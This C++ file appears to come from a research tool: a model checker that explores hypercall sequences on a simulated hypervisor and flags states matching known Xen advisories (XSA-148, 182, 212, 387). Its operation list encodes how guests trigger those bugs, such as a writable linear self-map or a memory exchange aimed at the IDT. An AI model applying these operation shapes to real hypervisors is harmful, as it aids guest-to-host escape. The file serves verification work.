}  // namespace ii::analysis
