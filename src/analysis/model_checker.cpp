// Bounded model checking over the real validation engine (see
// model_checker.hpp for the exploration model).
//
// Layout of this file:
//   - machine construction for the bounded configuration
//   - the operation alphabet (enumerated per state, deterministic order)
//   - operation application through the public hypercall surface
//   - state diffing (counterexample readability)
//   - erroneous-state classification over the shared SystemWalk
//   - the BFS driver
#include "analysis/model_checker.hpp"

#include <algorithm>
#include <atomic>
#include <cstdio>
#include <cstring>
#include <deque>
#include <fstream>
#include <functional>
#include <memory>
#include <mutex>
#include <set>
#include <stdexcept>
#include <thread>
#include <utility>

#include "analysis/visited.hpp"
#include "hv/audit.hpp"
#include "hv/errors.hpp"
#include "hv/layout.hpp"
#include "hv/snapshot.hpp"
#include "obs/span.hpp"
#include "obs/status.hpp"

namespace ii::analysis {

namespace {

std::string hex(std::uint64_t v) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "0x%llx", static_cast<unsigned long long>(v));
  return buf;
}

int level_of(hv::PageType t) {
  switch (t) {
    case hv::PageType::L1: return 1;
    case hv::PageType::L2: return 2;
    case hv::PageType::L3: return 3;
    case hv::PageType::L4: return 4;
    default: return 0;
  }
}

// ------------------------------------------------------------------ machine

/// The bounded configuration under test: one machine, dom0, and the guests
/// that issue every enumerated operation.
struct Machine {
  sim::PhysicalMemory mem;
  hv::Hypervisor vmm;
  std::vector<hv::DomainId> guests;

  explicit Machine(const ModelCheckConfig& config)
      : mem{config.machine_frames},
        vmm{mem, hv::VersionPolicy::for_version(config.version)} {
    (void)vmm.create_domain("dom0", /*privileged=*/true, config.dom0_pages);
    for (unsigned i = 0; i < config.guest_domains; ++i) {
      guests.push_back(vmm.create_domain("guest" + std::to_string(i + 1),
                                         /*privileged=*/false,
                                         config.domain_pages));
    }
  }
};

// ----------------------------------------------------------------- alphabet

/// Enumerate the operation alphabet for the current state, in a fixed
/// deterministic order. The palette is curated but adversarial: for every
/// live page table it includes clears, remaps, read-only and writable
/// (self-)maps, superpage attempts, reserved-slot writes, pin/unpin and
/// baseptr switches, and exchange with benign and hostile output pointers —
/// the full guest-issuable surface the paper's three memory XSAs sit on.
std::vector<Op> enumerate_ops(const hv::Hypervisor& vmm,
                              const ModelCheckConfig& config,
                              const std::vector<hv::DomainId>& guests) {
  using Kind = Op::Kind;
  constexpr std::uint64_t kP = sim::Pte::kPresent;
  constexpr std::uint64_t kW = sim::Pte::kWritable;
  constexpr std::uint64_t kU = sim::Pte::kUser;
  constexpr std::uint64_t kS = sim::Pte::kPageSize;

  std::vector<Op> ops;
  for (const hv::DomainId id : guests) {
    const hv::Domain& dom = vmm.domain(id);
    if (dom.crashed()) continue;
    const std::string who = "d" + std::to_string(id);

    const sim::Mfn cr3 = dom.cr3();
    const auto base = dom.p2m(sim::Pfn{0});
    const auto data = dom.p2m(hv::kFirstFreePfn);
    const sim::Pfn data2_pfn{hv::kFirstFreePfn.raw() + 1};
    const sim::Pfn l1_pfn{config.domain_pages - 4};

    // Live page tables the domain owns, in MFN order.
    struct Table {
      sim::Mfn mfn;
      int level;
    };
    std::vector<Table> tables;
    for (std::uint64_t m = 0; m < vmm.frames().frame_count(); ++m) {
      const hv::PageInfo& pi = vmm.frames().info(sim::Mfn{m});
      if (pi.owner == id && hv::is_pagetable_type(pi.type) && pi.validated) {
        tables.push_back(Table{sim::Mfn{m}, level_of(pi.type)});
      }
    }

    const auto add_mmu = [&](const Table& t, unsigned slot, std::uint64_t val,
                             const std::string& what) {
      Op op;
      op.kind = Kind::MmuUpdate;
      op.caller = id;
      op.ptr = sim::mfn_to_paddr(t.mfn).raw() + 8ULL * slot;
      op.val = val;
      op.label = who + ": mmu_update L" + std::to_string(t.level) + "[mfn " +
                 hex(t.mfn.raw()) + "][" + std::to_string(slot) + "] <- " +
                 what;
      ops.push_back(std::move(op));
    };
    const auto pte = [](sim::Mfn f, std::uint64_t flags) {
      return sim::Pte::make(f, flags).raw();
    };

    for (const Table& t : tables) {
      switch (t.level) {
        case 1:
          for (const unsigned slot :
               {static_cast<unsigned>(hv::kFirstFreePfn.raw()),
                static_cast<unsigned>(l1_pfn.raw())}) {
            add_mmu(t, slot, 0, "clear");
            if (data) {
              add_mmu(t, slot, pte(*data, kP | kW | kU), "rw data page");
              add_mmu(t, slot, pte(*data, kP | kU), "ro data page");
            }
            add_mmu(t, slot, pte(t.mfn, kP | kW | kU), "rw map of this L1");
            add_mmu(t, slot, pte(cr3, kP | kU), "ro map of own L4");
            add_mmu(t, slot, pte(cr3, kP | kW | kU), "rw map of own L4");
            add_mmu(t, slot, pte(sim::Mfn{0}, kP | kW | kU),
                    "rw map of xen frame 0");
          }
          break;
        case 2:
          add_mmu(t, 0, 0, "clear kernel L1 link");
          if (base) {
            add_mmu(t, 0, pte(*base, kP | kW | kU | kS),
                    "2MiB PSE superpage over own region");
          }
          if (data) {
            add_mmu(t, 0, pte(*data, kP | kU), "link data page as L1");
          }
          break;
        case 3:
          add_mmu(t, 0, 0, "clear kernel L2 link");
          if (data) {
            add_mmu(t, 0, pte(*data, kP | kU), "link data page as L2");
          }
          if (base) {
            add_mmu(t, 0, pte(*base, kP | kW | kU | kS), "1GiB PSE attempt");
          }
          break;
        case 4: {
          const unsigned kernel_slot = sim::level_index_of(
              sim::Vaddr{hv::kGuestKernelBase}, sim::PtLevel::L4);
          add_mmu(t, kernel_slot, 0, "clear kernel L3 link");
          if (data) {
            add_mmu(t, kernel_slot, pte(*data, kP | kU),
                    "link data page as L3");
          }
          add_mmu(t, hv::kLinearPtSlot, 0, "clear linear slot");
          add_mmu(t, hv::kLinearPtSlot, pte(cr3, kP | kU),
                  "ro linear self map");
          add_mmu(t, hv::kLinearPtSlot, pte(cr3, kP | kW | kU),
                  "RW linear self map (XSA-182 flip)");
          if (data) {
            add_mmu(t, hv::kLinearPtSlot, pte(*data, kP | kU),
                    "ro data page in linear slot");
          }
          add_mmu(t, hv::kXenFirstReservedSlot, pte(cr3, kP | kU),
                  "ro self map in xen text slot");
          break;
        }
        default: break;
      }
    }

    // Pin / unpin / baseptr.
    const auto add_ext = [&](Kind kind, sim::Mfn mfn, int level,
                             const std::string& what) {
      Op op;
      op.kind = kind;
      op.caller = id;
      op.mfn = mfn;
      op.level = level;
      op.label = who + ": " + what;
      ops.push_back(std::move(op));
    };
    if (data) {
      add_ext(Kind::Pin, *data, 1, "pin data mfn " + hex(data->raw()) + " as L1");
      add_ext(Kind::Pin, *data, 4, "pin data mfn " + hex(data->raw()) + " as L4");
    }
    for (const Table& t : tables) {
      if (t.level == 1) {
        add_ext(Kind::Pin, t.mfn, 1, "re-pin L1 mfn " + hex(t.mfn.raw()));
        break;
      }
    }
    std::set<std::uint64_t> pinned;
    for (const sim::Mfn m : dom.pinned_tables()) pinned.insert(m.raw());
    for (const std::uint64_t m : pinned) {
      add_ext(Kind::Unpin, sim::Mfn{m}, 0, "unpin mfn " + hex(m));
    }
    for (const Table& t : tables) {
      if (t.level == 4) {
        add_ext(Kind::NewBaseptr, t.mfn, 4,
                "new_baseptr mfn " + hex(t.mfn.raw()));
      }
    }

    // memory_exchange with benign and hostile output pointers.
    if (data) {
      const auto add_exchange = [&](sim::Vaddr out, const std::string& what) {
        Op op;
        op.kind = Kind::Exchange;
        op.caller = id;
        op.pfn = hv::kFirstFreePfn;
        op.out = out;
        op.label = who + ": exchange pfn " +
                   std::to_string(hv::kFirstFreePfn.raw()) + ", out = " + what;
        ops.push_back(std::move(op));
      };
      add_exchange(hv::guest_directmap_vaddr(data2_pfn), "own data page");
      add_exchange(hv::directmap_vaddr(vmm.idt_base()),
                   "hypervisor IDT (XSA-212 target)");
      add_exchange(sim::Vaddr{hv::kXenTextBase}, "xen text");
      add_exchange(hv::guest_directmap_vaddr(l1_pfn), "own RO-mapped L1 page");
    }

    // Grant ops (gated: the v2->v1 downgrade leak is pre-4.13 by design).
    if (config.include_grant_ops) {
      const auto add_grant = [&](Kind kind, unsigned version, unsigned gref,
                                 const std::string& what) {
        Op op;
        op.kind = kind;
        op.caller = id;
        op.version = version;
        op.gref = gref;
        op.peer = hv::kDom0;
        op.pfn = hv::kFirstFreePfn;
        op.label = who + ": " + what;
        ops.push_back(std::move(op));
      };
      add_grant(Kind::GrantSetVersion, 2, 0, "grant set_version 2");
      add_grant(Kind::GrantSetVersion, 1, 0, "grant set_version 1");
      add_grant(Kind::GrantAccess, 0, 0, "grant ref 0 to dom0");
      add_grant(Kind::GrantEndAccess, 0, 0, "grant end_access ref 0");
    }
  }
  return ops;
}

long apply_op(hv::Hypervisor& vmm, const Op& op) {
  using Kind = Op::Kind;
  switch (op.kind) {
    case Kind::MmuUpdate: {
      const hv::MmuUpdate req{op.ptr | hv::kMmuNormalPtUpdate, op.val};
      return vmm.hypercall_mmu_update(op.caller, std::span{&req, 1});
    }
    case Kind::Pin: {
      const auto cmd = static_cast<hv::MmuExtCmd>(
          static_cast<int>(hv::MmuExtCmd::PinL1Table) + op.level - 1);
      return vmm.hypercall_mmuext_op(op.caller, hv::MmuExtOp{cmd, op.mfn});
    }
    case Kind::Unpin:
      return vmm.hypercall_mmuext_op(
          op.caller, hv::MmuExtOp{hv::MmuExtCmd::UnpinTable, op.mfn});
    case Kind::NewBaseptr:
      return vmm.hypercall_mmuext_op(
          op.caller, hv::MmuExtOp{hv::MmuExtCmd::NewBaseptr, op.mfn});
    case Kind::Exchange: {
      hv::MemoryExchange exch{{op.pfn}, op.out, 0};
      return vmm.hypercall_memory_exchange(op.caller, exch);
    }
    case Kind::GrantSetVersion:
      return vmm.grants().set_version(op.caller, op.version);
    case Kind::GrantAccess:
      return vmm.grants().grant_access(op.caller, op.gref, op.peer, op.pfn,
                                       /*readonly=*/false);
    case Kind::GrantEndAccess:
      return vmm.grants().end_access(op.caller, op.gref);
  }
  return hv::kEINVAL;
}

// --------------------------------------------------------------- state diff

/// Read-only view of a machine state expressed against a shared root
/// snapshot, sourced from either an HvDelta or a CoW forest node: resolves
/// frame bytes and PageInfo without materializing a full snapshot, and
/// exposes the state's dirty sets so two views over the same root can be
/// diffed in O(changed) instead of O(machine). Diff lines are emitted only
/// where *contents* differ, so the two sources — whose dirty lists are both
/// conservative supersets of the content-diverged frames — yield identical
/// diffs for the same logical state.
class StateView {
 public:
  StateView(const hv::HvSnapshot& base, const hv::HvDelta& delta)
      : base_{&base},
        dirty_{&delta.mem_frames},
        frames_{&delta.frames},
        domains_{&delta.domains},
        grants_{&delta.grants},
        crashed_{delta.crashed},
        cpu_hung_{delta.cpu_hung} {
    ptrs_.reserve(delta.mem_frames.size());
    for (std::size_t i = 0; i < delta.mem_frames.size(); ++i) {
      ptrs_.push_back(delta.mem_bytes.data() + i * sim::kPageSize);
    }
  }
  StateView(const hv::HvSnapshot& base, const hv::HvCowState& cow)
      : base_{&base},
        frames_{&cow.frames},
        domains_{&cow.domains},
        grants_{&cow.grants},
        crashed_{cow.crashed},
        cpu_hung_{cow.cpu_hung} {
    dirty_storage_.reserve(cow.mem_frames.size());
    ptrs_.reserve(cow.mem_frames.size());
    for (const auto& [m, block] : cow.mem_frames) {
      dirty_storage_.push_back(m);
      ptrs_.push_back(block->bytes.data());
    }
    dirty_ = &dirty_storage_;
  }

  [[nodiscard]] const std::uint8_t* frame(std::uint64_t m) const {
    const auto it = std::lower_bound(dirty_->begin(), dirty_->end(), m);
    if (it != dirty_->end() && *it == m) {
      return ptrs_[std::size_t(it - dirty_->begin())];
    }
    return base_->memory.data() + m * sim::kPageSize;
  }
  [[nodiscard]] std::uint64_t frame_u64(std::uint64_t m, unsigned slot) const {
    std::uint64_t v = 0;
    std::memcpy(&v, frame(m) + 8ULL * slot, sizeof v);
    return v;
  }
  [[nodiscard]] const hv::PageInfo& page_info(std::uint64_t m) const {
    const auto& fs = *frames_;  // ascending by mfn (capture order)
    const auto it = std::lower_bound(
        fs.begin(), fs.end(), m,
        [](const auto& entry, std::uint64_t mfn) { return entry.first < mfn; });
    if (it != fs.end() && it->first == m) return it->second;
    return base_->frames[m];
  }

  /// MFNs whose contents may differ from the shared root.
  [[nodiscard]] const std::vector<std::uint64_t>& dirty_frames() const {
    return *dirty_;
  }
  /// MFNs whose PageInfo differs from the shared root.
  [[nodiscard]] std::vector<std::uint64_t> changed_page_infos() const {
    std::vector<std::uint64_t> out;
    out.reserve(frames_->size());
    for (const auto& [m, pi] : *frames_) out.push_back(m);
    return out;
  }

  [[nodiscard]] const std::vector<hv::Domain>& domains() const {
    return *domains_;
  }
  [[nodiscard]] const hv::GrantOps::State& grants() const { return *grants_; }
  [[nodiscard]] bool crashed() const { return crashed_; }
  [[nodiscard]] bool cpu_hung() const { return cpu_hung_; }

 private:
  const hv::HvSnapshot* base_;
  const std::vector<std::uint64_t>* dirty_ = nullptr;
  std::vector<std::uint64_t> dirty_storage_;      ///< CoW source only
  std::vector<const std::uint8_t*> ptrs_;         ///< parallel to *dirty_
  const std::vector<std::pair<std::uint64_t, hv::PageInfo>>* frames_;
  const std::vector<hv::Domain>* domains_;
  const hv::GrantOps::State* grants_;
  bool crashed_ = false;
  bool cpu_hung_ = false;
};

/// Ascending union of two sorted MFN lists.
std::vector<std::uint64_t> merge_sorted(const std::vector<std::uint64_t>& a,
                                        const std::vector<std::uint64_t>& b) {
  std::vector<std::uint64_t> out;
  out.reserve(a.size() + b.size());
  std::set_union(a.begin(), a.end(), b.begin(), b.end(),
                 std::back_inserter(out));
  return out;
}

/// Human-readable field-level differences between a parent state and its
/// violating successor, both expressed against the same root; capped so
/// counterexamples stay printable. Only frames in either state's dirty set
/// are examined — frames untouched by both resolve to the shared root and
/// cannot differ.
std::vector<std::string> diff_states(const StateView& before,
                                     const StateView& after) {
  constexpr std::size_t kMaxLines = 48;
  std::vector<std::string> out;
  std::uint64_t suppressed = 0;
  const auto add = [&](std::string line) {
    if (out.size() < kMaxLines) {
      out.push_back(std::move(line));
    } else {
      ++suppressed;
    }
  };

  if (before.crashed() != after.crashed()) {
    add(std::string{"hypervisor: "} +
        (after.crashed() ? "PANICKED" : "un-crashed"));
  }
  if (before.cpu_hung() != after.cpu_hung()) {
    add(std::string{"cpu0: "} + (after.cpu_hung() ? "WEDGED" : "released"));
  }

  for (const std::uint64_t m :
       merge_sorted(before.changed_page_infos(), after.changed_page_infos())) {
    const hv::PageInfo& a = before.page_info(m);
    const hv::PageInfo& b = after.page_info(m);
    std::string delta;
    if (a.owner != b.owner) {
      delta += " owner d" + std::to_string(a.owner) + " -> d" +
               std::to_string(b.owner);
    }
    if (a.type != b.type) {
      delta += " type " + hv::to_string(a.type) + " -> " + hv::to_string(b.type);
    }
    if (a.type_count != b.type_count) {
      delta += " type_count " + std::to_string(a.type_count) + " -> " +
               std::to_string(b.type_count);
    }
    if (a.ref_count != b.ref_count) {
      delta += " ref_count " + std::to_string(a.ref_count) + " -> " +
               std::to_string(b.ref_count);
    }
    if (a.validated != b.validated) {
      delta += std::string{" validated "} + (a.validated ? "yes" : "no") +
               " -> " + (b.validated ? "yes" : "no");
    }
    if (!delta.empty()) add("mfn " + hex(m) + ":" + delta);
  }

  // Memory content diffs: per-slot for frames that are (or were) page
  // tables or Xen-owned (the IDT lives there), summarized otherwise.
  for (const std::uint64_t m :
       merge_sorted(before.dirty_frames(), after.dirty_frames())) {
    const std::uint8_t* pa = before.frame(m);
    const std::uint8_t* pb = after.frame(m);
    if (std::memcmp(pa, pb, sim::kPageSize) == 0) continue;
    const bool decode = hv::is_pagetable_type(before.page_info(m).type) ||
                        hv::is_pagetable_type(after.page_info(m).type) ||
                        before.page_info(m).owner == hv::kDomXen;
    if (!decode) {
      add("mfn " + hex(m) + ": data changed");
      continue;
    }
    for (unsigned s = 0; s < sim::kPtEntries; ++s) {
      const std::uint64_t va = before.frame_u64(m, s);
      const std::uint64_t vb = after.frame_u64(m, s);
      if (va != vb) {
        add("mfn " + hex(m) + "[" + std::to_string(s) + "]: " + hex(va) +
            " -> " + hex(vb));
      }
    }
  }

  // Domain bookkeeping, matched by id.
  for (const hv::Domain& db : after.domains()) {
    const hv::Domain* da = nullptr;
    for (const hv::Domain& d : before.domains()) {
      if (d.id() == db.id()) da = &d;
    }
    const std::string who = "d" + std::to_string(db.id());
    if (da == nullptr) {
      add(who + ": created");
      continue;
    }
    if (da->cr3() != db.cr3()) {
      add(who + ": cr3 " + hex(da->cr3().raw()) + " -> " + hex(db.cr3().raw()));
    }
    if (!da->crashed() && db.crashed()) add(who + ": crashed");
    for (std::uint64_t p = 0; p < db.nr_pages(); ++p) {
      const auto ma = da->p2m(sim::Pfn{p});
      const auto mb = db.p2m(sim::Pfn{p});
      if (ma != mb) {
        add(who + ": p2m pfn " + std::to_string(p) + ": " +
            (ma ? "mfn " + hex(ma->raw()) : "-") + " -> " +
            (mb ? "mfn " + hex(mb->raw()) : "-"));
      }
    }
    std::set<std::uint64_t> pa_set, pb_set;
    for (const sim::Mfn m : da->pinned_tables()) pa_set.insert(m.raw());
    for (const sim::Mfn m : db.pinned_tables()) pb_set.insert(m.raw());
    for (const std::uint64_t m : pb_set) {
      if (pa_set.count(m) == 0) add(who + ": pinned mfn " + hex(m));
    }
    for (const std::uint64_t m : pa_set) {
      if (pb_set.count(m) == 0) add(who + ": unpinned mfn " + hex(m));
    }
  }

  // Grant-table deltas (version switches and mapping counts).
  for (const auto& [id, tb] : after.grants().tables) {
    const auto it = before.grants().tables.find(id);
    const unsigned va =
        it == before.grants().tables.end() ? 1 : it->second.version();
    if (va != tb.version()) {
      add("d" + std::to_string(id) + ": grant table v" + std::to_string(va) +
          " -> v" + std::to_string(tb.version()));
    }
  }
  if (before.grants().mappings.size() != after.grants().mappings.size()) {
    add("grant mappings: " + std::to_string(before.grants().mappings.size()) +
        " -> " + std::to_string(after.grants().mappings.size()));
  }

  if (suppressed != 0) {
    out.push_back("... (+" + std::to_string(suppressed) + " more)");
  }
  return out;
}

}  // namespace

// ----------------------------------------------------------- classification

/// Which of the paper's erroneous-state families a violating state belongs
/// to, decided over the same SystemWalk the audit used. Public so the
/// coverage-guided fuzzer shares the checker's recognizers.
std::vector<ErroneousStateClass> classify_erroneous_state(
    const hv::Hypervisor& vmm, const hv::SystemWalk& walk,
    const hv::InvariantReport& report) {
  std::set<ErroneousStateClass> classes;
  std::set<hv::Invariant> explained;

  const auto violated = report.violated_set();
  const auto is_violated = [&](hv::Invariant inv) {
    for (const hv::Invariant v : violated)
      if (v == inv) return true;
    return false;
  };

  if (is_violated(hv::Invariant::IdtIntegrity)) {
    classes.insert(ErroneousStateClass::Xsa212IdtClobber);
    explained.insert(hv::Invariant::IdtIntegrity);
  }
  if (is_violated(hv::Invariant::GrantLifecycle)) {
    classes.insert(ErroneousStateClass::Xsa387StaleGrantStatus);
    explained.insert(hv::Invariant::GrantLifecycle);
  }
  if (is_violated(hv::Invariant::FrameTypeSafety)) {
    for (const hv::DomainWalk& dw : walk) {
      for (const hv::LeafMapping& m : dw.leaves) {
        if (!m.user || !m.writable) continue;
        const std::uint64_t n_frames = m.bytes / sim::kPageSize;
        for (std::uint64_t k = 0; k < n_frames; ++k) {
          const sim::Mfn f{m.mfn.raw() + k};
          if (!vmm.memory().contains(f)) break;
          if (hv::is_writable_pagetable_mapping(
                  true, vmm.frames().info(f).type)) {
            classes.insert(m.bytes > sim::kPageSize
                               ? ErroneousStateClass::Xsa148SuperpageWindow
                               : ErroneousStateClass::Xsa182WritableSelfMap);
          }
        }
      }
    }
    explained.insert(hv::Invariant::FrameTypeSafety);
    // A writable self map necessarily tampers the reserved slot too.
    explained.insert(hv::Invariant::ReservedSlotIntegrity);
  }

  for (const hv::Invariant inv : violated) {
    if (explained.count(inv) == 0) classes.insert(ErroneousStateClass::Other);
  }
  return {classes.begin(), classes.end()};
}

std::string to_string(ErroneousStateClass c) {
  switch (c) {
    case ErroneousStateClass::Xsa148SuperpageWindow:
      return "XSA-148 superpage window";
    case ErroneousStateClass::Xsa182WritableSelfMap:
      return "XSA-182 writable self map";
    case ErroneousStateClass::Xsa212IdtClobber:
      return "XSA-212 IDT clobber";
    case ErroneousStateClass::Xsa387StaleGrantStatus:
      return "XSA-387 stale grant status";
    case ErroneousStateClass::Other: return "other invariant violation";
  }
  return "unknown";
}

std::string Counterexample::trace_string() const {
  std::string out;
  for (std::size_t i = 0; i < ops.size(); ++i) {
    if (i != 0) out += " ; ";
    out += ops[i].label;
  }
  return out;
}

// ----------------------------------------------------- engine-shared helpers

namespace {

/// Deterministic byte accounting for one queued frontier state: a pure
/// function of the item (label bytes, resident frame count, bookkeeping
/// overrides), never of allocator or scheduling behavior — so chunking and
/// spill decisions are identical at any thread count, and peak_frontier_bytes
/// is a cmp-stable statistic. `resident_frames` is the delta dirty count for
/// the serial queue and the owned-block count for a CoW node.
std::uint64_t frontier_item_cost(const std::vector<Op>& prefix,
                                 std::uint64_t resident_frames,
                                 std::uint64_t page_infos) {
  std::uint64_t bytes = 512;
  for (const Op& op : prefix) bytes += 128 + op.label.size();
  return bytes + resident_frames * (sim::kPageSize + 64) + page_infos * 48;
}

// Spill records are self-delimiting little-endian blobs: the op prefix that
// re-derives the state by replay from the root, plus the expected state
// hash (reloads self-verify). Bookkeeping like GrantTable is deliberately
// not serialized — replay through the public hypercall surface is the only
// portable encoding of hypervisor-private state (DESIGN.md §16).

void put_u8(std::string& buf, std::uint8_t v) {
  buf.push_back(static_cast<char>(v));
}
void put_u32(std::string& buf, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) put_u8(buf, (v >> (8 * i)) & 0xff);
}
void put_u64(std::string& buf, std::uint64_t v) {
  for (int i = 0; i < 8; ++i) put_u8(buf, (v >> (8 * i)) & 0xff);
}

void read_exact(std::istream& in, char* dst, std::size_t n) {
  in.read(dst, static_cast<std::streamsize>(n));
  if (in.gcount() != static_cast<std::streamsize>(n)) {
    throw std::runtime_error{"model checker: truncated spill record"};
  }
}
std::uint8_t get_u8(std::istream& in) {
  char c = 0;
  read_exact(in, &c, 1);
  return static_cast<std::uint8_t>(c);
}
std::uint32_t get_u32(std::istream& in) {
  std::uint32_t v = 0;
  for (int i = 0; i < 4; ++i) v |= std::uint32_t{get_u8(in)} << (8 * i);
  return v;
}
std::uint64_t get_u64(std::istream& in) {
  std::uint64_t v = 0;
  for (int i = 0; i < 8; ++i) v |= std::uint64_t{get_u8(in)} << (8 * i);
  return v;
}

void put_op(std::string& buf, const Op& op) {
  put_u8(buf, static_cast<std::uint8_t>(op.kind));
  put_u8(buf, static_cast<std::uint8_t>(op.level));
  put_u64(buf, static_cast<std::uint64_t>(op.caller));
  put_u64(buf, op.ptr);
  put_u64(buf, op.val);
  put_u64(buf, op.mfn.raw());
  put_u64(buf, op.pfn.raw());
  put_u64(buf, op.out.raw());
  put_u32(buf, op.gref);
  put_u32(buf, op.version);
  put_u64(buf, static_cast<std::uint64_t>(op.peer));
  put_u32(buf, static_cast<std::uint32_t>(op.label.size()));
  buf.append(op.label);
}

Op get_op(std::istream& in) {
  Op op;
  op.kind = static_cast<Op::Kind>(get_u8(in));
  op.level = static_cast<int>(get_u8(in));
  op.caller = static_cast<hv::DomainId>(get_u64(in));
  op.ptr = get_u64(in);
  op.val = get_u64(in);
  op.mfn = sim::Mfn{get_u64(in)};
  op.pfn = sim::Pfn{get_u64(in)};
  op.out = sim::Vaddr{get_u64(in)};
  op.gref = get_u32(in);
  op.version = get_u32(in);
  op.peer = static_cast<hv::DomainId>(get_u64(in));
  const std::uint32_t label_len = get_u32(in);
  op.label.resize(label_len);
  if (label_len != 0) read_exact(in, op.label.data(), label_len);
  return op;
}

/// Append-only frontier spill file. The serial assembly stage is the only
/// writer (and flushes before workers read); workers reload through their
/// own read handles, so no stream is ever shared across threads.
class SpillFile {
 public:
  explicit SpillFile(std::string path) : path_{std::move(path)} {}

  /// Serialize one spilled state; returns its byte offset in the file.
  std::uint64_t append(const std::vector<Op>& prefix, std::uint64_t hash) {
    if (!out_.is_open()) {
      out_.open(path_, std::ios::binary | std::ios::trunc);
      if (!out_) {
        throw std::runtime_error{"model checker: cannot open spill file " +
                                 path_};
      }
    }
    std::string rec;
    put_u32(rec, static_cast<std::uint32_t>(prefix.size()));
    for (const Op& op : prefix) put_op(rec, op);
    put_u64(rec, hash);
    out_.write(rec.data(), static_cast<std::streamsize>(rec.size()));
    if (!out_) {
      throw std::runtime_error{"model checker: spill write failed: " + path_};
    }
    const std::uint64_t offset = bytes_;
    bytes_ += rec.size();
    return offset;
  }
  void flush() {
    if (out_.is_open()) out_.flush();
  }
  [[nodiscard]] std::uint64_t bytes_written() const { return bytes_; }
  [[nodiscard]] const std::string& path() const { return path_; }

 private:
  std::string path_;
  std::ofstream out_;
  std::uint64_t bytes_ = 0;
};

struct SpillRecord {
  std::vector<Op> prefix;
  std::uint64_t hash = 0;
};

SpillRecord read_spill_record(std::ifstream& in, const std::string& path,
                              std::uint64_t offset) {
  if (!in.is_open()) {
    in.open(path, std::ios::binary);
    if (!in) {
      throw std::runtime_error{"model checker: cannot open spill file " +
                               path};
    }
  }
  in.clear();  // a prior read may have left eof set
  in.seekg(static_cast<std::streamoff>(offset));
  SpillRecord rec;
  const std::uint32_t n_ops = get_u32(in);
  rec.prefix.reserve(n_ops);
  for (std::uint32_t i = 0; i < n_ops; ++i) rec.prefix.push_back(get_op(in));
  rec.hash = get_u64(in);
  return rec;
}

}  // namespace

// --------------------------------------------------------- serial BFS driver

namespace {

ModelCheckResult run_model_check_serial(const ModelCheckConfig& config) {
  ModelCheckResult result;
  result.config = config;
  result.threads_used = 1;

  Machine machine{config};
  hv::Hypervisor& vmm = machine.vmm;
  vmm.reset_snapshot_stats();

  const hv::HvSnapshot root = vmm.snapshot();
  // The serial driver commits through the same owner API and shard layout
  // as the sharded engine (it owns every shard), so shard_occupancy is
  // identical at any thread count and the visited-ownership lint rule has
  // no serial-path exception to carry.
  ShardedVisited visited;
  visited.owner_insert(visited.shard_of(root.hash), root.hash);
  result.states_explored = 1;

  // Violation records diff parent and child from their dirty sets against
  // the shared root — no full snapshot is ever taken for a counterexample.
  const auto record_violation = [&](const hv::HvDelta& parent_delta,
                                    const std::vector<Op>& ops,
                                    std::uint64_t state_hash,
                                    const hv::SystemWalk& walk,
                                    hv::InvariantReport report) {
    ++result.violations_found;
    const auto violated = report.violated_set();
    for (const hv::Invariant inv : violated) {
      ++result.invariant_hits[static_cast<std::size_t>(inv)];
    }
    const auto classes = classify_erroneous_state(vmm, walk, report);
    for (const ErroneousStateClass c : classes) {
      ++result.class_hits[static_cast<std::size_t>(c)];
    }
    if (result.counterexamples.size() >= config.max_counterexamples) return;
    Counterexample cx;
    cx.ops = ops;
    cx.depth = static_cast<unsigned>(ops.size());
    cx.state_hash = state_hash;
    cx.violated = violated;
    cx.classes = classes;
    const hv::HvDelta child_delta = vmm.snapshot_delta(root);
    cx.state_diff = diff_states(StateView{root, parent_delta},
                                StateView{root, child_delta});
    cx.report = std::move(report);
    result.counterexamples.push_back(std::move(cx));
  };

  // The boot state itself must satisfy every invariant; a dirty root makes
  // everything downstream meaningless, so it is reported and terminal.
  {
    const hv::SystemWalk walk = hv::walk_system(vmm);
    hv::InvariantReport report = hv::InvariantAuditor{vmm}.audit(walk);
    if (!report.clean()) {
      record_violation(vmm.snapshot_delta(root), {}, root.hash, walk,
                       std::move(report));
      return result;
    }
  }

  // Each queued state carries its delta against the root, so expansion is
  // one delta-restore (O(dirty frames)) instead of restore-root-and-replay
  // (O(machine) + prefix re-execution). The replay fallback preserves the
  // old scheme; both must produce identical results.
  struct WorkItem {
    std::vector<Op> prefix;
    hv::HvDelta delta;  ///< state vs root (unused by the replay fallback)
    std::uint64_t cost = 0;  ///< frontier_item_cost at admission
  };
  std::deque<WorkItem> queue;
  queue.push_back(WorkItem{{}, vmm.snapshot_delta(root), 0});
  queue.back().cost = frontier_item_cost(queue.back().prefix,
                                         queue.back().delta.mem_frames.size(),
                                         queue.back().delta.frames.size());
  std::uint64_t frontier_bytes = queue.back().cost;
  result.peak_frontier_bytes = frontier_bytes;

  obs::SpanProfiler* const prof = config.profiler;
  bool stop = false;
  while (!queue.empty() && !stop) {
    const WorkItem item = std::move(queue.front());
    queue.pop_front();
    frontier_bytes -= item.cost;
    if (item.prefix.size() >= config.depth) continue;
    // Depth of the states this parent generates ("d1" = first op applied).
    const unsigned depth = static_cast<unsigned>(item.prefix.size()) + 1;
    if (config.status != nullptr) {
      config.status->checker_depth(depth, queue.size() + 1);
      config.status->checker_progress(result.states_explored,
                                      result.violations_found);
    }

    hv::HvDelta parent_delta;
    hv::HvSnapshot parent_full;  // replay fallback only
    if (config.use_replay_fallback) {
      vmm.restore(root);
      for (const Op& op : item.prefix) (void)apply_op(vmm, op);
      parent_full = vmm.snapshot();
      parent_delta = vmm.snapshot_delta(root);
    } else {
      (void)vmm.restore_delta(root, item.delta);
      parent_delta = item.delta;
    }
    const std::uint64_t parent_hash = parent_delta.hash;
    const auto restore_parent = [&] {
      if (config.use_replay_fallback) {
        vmm.restore(parent_full);
      } else {
        (void)vmm.restore_delta(root, parent_delta);
      }
    };

    const std::vector<Op> alphabet =
        enumerate_ops(vmm, config, machine.guests);
    std::uint64_t parent_applied = 0;  // deterministic expand/audit spans,
    std::uint64_t parent_audited = 0;  // mirrored by the parallel merge
    for (const Op& op : alphabet) {
      ++result.ops_applied;
      ++parent_applied;
      const long rc = apply_op(vmm, op);
      const std::uint64_t h = vmm.state_hash();
      if (h == parent_hash) {
        if (rc != hv::kOk) ++result.failed_ops;
        continue;  // nothing changed; nothing to restore
      }
      if (!visited.owner_insert(visited.shard_of(h), h)) {
        ++result.states_deduped;
        restore_parent();
        continue;
      }
      ++result.states_explored;
      ++parent_audited;

      std::vector<Op> trace = item.prefix;
      trace.push_back(op);
